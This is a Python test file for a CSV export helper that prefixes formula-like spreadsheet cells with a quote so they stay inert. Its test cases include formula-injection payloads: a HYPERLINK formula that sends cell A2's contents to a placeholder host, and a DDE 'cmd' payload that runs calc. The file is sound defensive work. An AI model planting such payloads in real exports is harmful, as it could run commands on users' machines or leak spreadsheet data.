"""Cells written for spreadsheets come back as text, never as a formula to run."""

import csv
import io

import pytest
from kombel_runtime.spreadsheet_cells import csv_document, defused


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://contoh.id/?d="&A2,"Klik")',
        "+62 812-3456-7890",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(cell: str) -> None:
    assert defused(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["", "Rina Sitorus, S.Pd.", "0812-3456-7890", "Ma'ruf", " =1+1", "'=1+1", "a=b"]
)
def test_every_other_cell_stays_as_typed(cell: str) -> None:
    assert defused(cell) == cell


def test_the_csv_defuses_text_cells_and_leaves_numbers_and_quoting_to_csv() -> None:
    document = csv_document([["Baris", "Nama"], [7, '=HYPERLINK("x","y")'], [-3, "Budi; Ani"]])
    assert document.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(document[1:]))) == [
        ["Baris", "Nama"],
        ["7", '\'=HYPERLINK("x","y")'],
        ["-3", "Budi; Ani"],
    ]
